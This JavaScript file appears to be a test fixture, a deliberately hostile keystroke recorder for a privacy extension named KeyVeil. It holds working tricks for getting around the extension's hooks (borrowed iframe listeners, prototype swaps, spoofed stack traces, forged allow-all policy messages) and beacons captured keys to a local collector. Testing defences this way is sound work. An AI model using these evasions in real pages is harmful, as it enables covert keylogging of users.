// A hostile recorder for tests/browser/hostile*.test.mjs, in the rrweb mould (no vendor's code).
// It records keys like any recorder, after first trying one way around KeyVeil, named by its
// script tag's `data-how`. What its listener received is kept in window.__recorded for the test.
(function () {
  var how = (document.currentScript && document.currentScript.dataset.how) || 'plain';
  var rec = window.__recorded = { how: how, keys: '', notes: [] };
  var EventType = {}; EventType[EventType.FullSnapshot = 2] = 'FullSnapshot';
  EventType[EventType.IncrementalSnapshot = 3] = 'IncrementalSnapshot';
  var buf = [], collector = 'http://localhost:' + location.port + '/collect/hostile';
  var events = ['keydown', 'input', 'change', 'mousemove', 'scroll'];
  function onInput(e) {
    if (e.type === 'keydown' && typeof e.key === 'string' && e.key.length === 1) rec.keys += e.key;
    buf.push({ t: e.timeStamp, k: e.key, v: e.target && e.target.value, x: e.clientX, y: e.clientY });
  }
  function freshFrame() {
    var f = document.createElement('iframe');
    document.documentElement.appendChild(f);
    return f;
  }
  function each(fn) { events.forEach(function (ev) { fn(ev); }); }

  if (how === 'inspect') {
    // Not an evasion: what a keystroke-dynamics recorder reads of each event, on the field
    // itself, including what only a delivery late for timing jitter could get wrong.
    rec.reads = [];
    var watch = function (e) {
      var f = document.getElementById('field');
      var r = {
        type: e.type, n: window.__order && window.__order.get(e), key: e.key, code: e.code, keyCode: e.keyCode, which: e.which, timeStamp: e.timeStamp, x: e.clientX,
        protoStamp: Object.getOwnPropertyDescriptor(Event.prototype, 'timeStamp').get.call(e),
        value: e.target.value, atField: e.currentTarget === f, path: e.composedPath().length, phase: e.eventPhase,
        ownKeys: Reflect.ownKeys(e).map(String),
      };
      rec.reads.push(r);
      if (e.type === 'keydown' && e.key.length === 1) rec.keys += e.key;
      Promise.resolve().then(function () { r.ownKeysAfter = Reflect.ownKeys(e).map(String); });
    };
    var field = document.getElementById('field');
    if (field) { field.addEventListener('keydown', watch); field.addEventListener('mousemove', watch); } else {
      document.addEventListener('DOMContentLoaded', function () {
        document.getElementById('field').addEventListener('keydown', watch);
        document.getElementById('field').addEventListener('mousemove', watch);
      });
    }
  } else if (how === 'iterator') {
    // The array iterator replaced while registering, so that destructuring the arguments of
    // addEventListener shows no listener: a wrapper that destructures them would hand the
    // call on unwrapped.
    var realIterator = Array.prototype[Symbol.iterator];
    Array.prototype[Symbol.iterator] = function () {
      if (this.length >= 2 && typeof this[0] === 'string' && this[1] === onInput) return realIterator.call([this[0], null, this[2]]);
      return realIterator.call(this);
    };
    each(function (ev) { document.addEventListener(ev, onInput, true); });
    Array.prototype[Symbol.iterator] = realIterator;
  } else if (how === 'plain') {
    each(function (ev) { document.addEventListener(ev, onInput, true); });
  } else if (how === 'iframe') {
    // A clean addEventListener from a fresh about:blank frame, used on this page's document.
    var a = freshFrame().contentWindow.EventTarget.prototype.addEventListener;
    each(function (ev) { a.call(document, ev, onInput, true); });
  } else if (how === 'iframe-removed') {
    // The same, with the frame gone before its hook could hear anything from the extension.
    var f1 = freshFrame();
    var a1 = f1.contentWindow.EventTarget.prototype.addEventListener;
    f1.remove();
    each(function (ev) { a1.call(document, ev, onInput, true); });
  } else if (how === 'handler-iframe') {
    // An on* setter from a fresh frame, used on this page's document.
    var f2 = freshFrame();
    var set = Object.getOwnPropertyDescriptor(f2.contentWindow.Document.prototype, 'onkeydown').set;
    f2.remove();
    set.call(document, onInput);
  } else if (how === 'inside-frame') {
    // Listeners inside a frame made synchronously, on a field the frame holds.
    var f3 = freshFrame();
    f3.id = 'inner-frame';
    var d = f3.contentDocument;
    var field = d.createElement('input');
    field.id = 'inner';
    d.body.appendChild(field);
    each(function (ev) { d.addEventListener(ev, onInput, true); });
  } else if (how === 'replaced') {
    // Keep KeyVeil's function, delete it, put up another one, record through the kept one.
    var saved = EventTarget.prototype.addEventListener;
    delete EventTarget.prototype.addEventListener;
    Object.defineProperty(EventTarget.prototype, 'addEventListener', {
      value: function addEventListener(t, l, o) { return saved.call(this, t, l, o); }, writable: true, enumerable: true, configurable: true,
    });
    each(function (ev) { saved.call(document, ev, onInput, true); });
  } else if (how === 'define-foreign') {
    // Object.defineProperty on EventTarget.prototype with a fresh frame's function.
    var f4 = freshFrame();
    Object.defineProperty(EventTarget.prototype, 'addEventListener', {
      value: f4.contentWindow.EventTarget.prototype.addEventListener, writable: true, enumerable: true, configurable: true,
    });
    each(function (ev) { document.addEventListener(ev, onInput, true); });
  } else if (how === 'stack') {
    // Blind attribution: no frames, a benign script's URL, and later, outside this script.
    var benign = 'Error\n    at https://benign.example/app.js:1:1';
    Error.stackTraceLimit = 0;
    Error.prepareStackTrace = function () { return benign; };
    try { Object.defineProperty(Error.prototype, 'stack', { get: function () { return benign; }, set: function () {}, configurable: true }); } catch (e) { rec.notes.push(String(e)); }
    setTimeout(function () { each(function (ev) { document.addEventListener(ev, onInput, true); }); }, 0);
  } else if (how === 'forge') {
    each(function (ev) { document.addEventListener(ev, onInput, true); });
    // Pretend to be the bridge: an allow-everything policy on the old channel, and a hello to
    // get the hook's channel; pretend to be the hook: a hello with a node of our own.
    var allow = JSON.stringify({ policy: { scripts: {}, unknown: 'allow', input_events: [], timed_events: [], strip_params: [] } });
    var mine = document.createElement('div');
    mine.addEventListener('keyveil:policy', function () { rec.gotPolicy = true; });
    window.addEventListener('keyveil:hook', function (e) {
      if (!e.relatedTarget || e.relatedTarget === mine) return; // our own forgery
      rec.gotChannel = true;
      e.relatedTarget.dispatchEvent(new CustomEvent('keyveil:policy', { detail: allow }));
    });
    var forge = function () {
      window.dispatchEvent(new CustomEvent('keyveil:policy', { detail: allow }));
      window.dispatchEvent(new CustomEvent('keyveil:bridge'));
      window.dispatchEvent(new MouseEvent('keyveil:hook', { relatedTarget: mine }));
    };
    forge();
    rec.forger = setInterval(forge, 50);
  }

  [HTMLInputElement, HTMLTextAreaElement, HTMLSelectElement].forEach(function (C) { rec.notes.push(typeof C.prototype); });
  new MutationObserver(function (m) { buf.push(m.length); }).observe(document, { subtree: true, childList: true });
  function flush() { if (buf.length) navigator.sendBeacon(collector, JSON.stringify(buf)); buf = []; }
  addEventListener('visibilitychange', flush);
  setInterval(flush, 500);
})();
